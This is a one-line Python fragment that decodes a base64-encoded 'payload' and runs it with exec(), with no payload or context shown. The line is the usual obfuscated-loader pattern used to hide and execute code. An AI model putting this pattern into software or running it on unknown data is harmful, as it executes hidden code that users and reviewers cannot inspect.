exec(base64.b64decode(payload))
